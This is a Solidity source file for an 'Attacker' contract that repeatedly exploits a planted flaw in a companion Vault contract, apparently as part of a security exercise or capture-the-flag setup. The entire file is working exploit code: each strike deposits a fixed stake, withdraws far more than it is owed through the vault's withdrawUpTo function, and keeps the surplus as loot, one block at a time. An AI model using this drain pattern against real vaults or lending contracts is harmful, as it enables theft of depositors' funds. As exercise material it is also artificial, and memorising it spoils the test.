// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Vault} from "./Vault.sol";

/// @title Drains the planted hole of {Vault}, one bite per block.
/// @notice Needs {STAKE} of the vault's asset once, to begin with; later strikes stake their own loot.
contract Attacker is Ownable {
    /// @notice What each strike deposits: the few shares whose owner is then paid for many.
    uint256 public constant STAKE = 1e18;

    Vault public immutable vault;
    IERC20 public immutable token;

    /// @notice What all strikes gained so far, stakes taken off. It stays in this contract.
    uint256 public loot;

    event Struck(uint256 gained);

    error NoGain(uint256 paid);

    constructor(Vault vault_) Ownable(msg.sender) {
        vault = vault_;
        token = IERC20(vault_.asset());
        token.approve(address(vault_), type(uint256).max);
    }

    /// @notice Takes all that one block allows. Reverts when the vault is paused, fixed, or empty.
    function strike() external onlyOwner returns (uint256 gained) {
        vault.deposit(STAKE, address(this));
        uint256 paid = vault.withdrawUpTo(type(uint256).max, address(this));
        if (paid <= STAKE) revert NoGain(paid);
        gained = paid - STAKE;
        loot += gained;
        emit Struck(gained);
    }
}
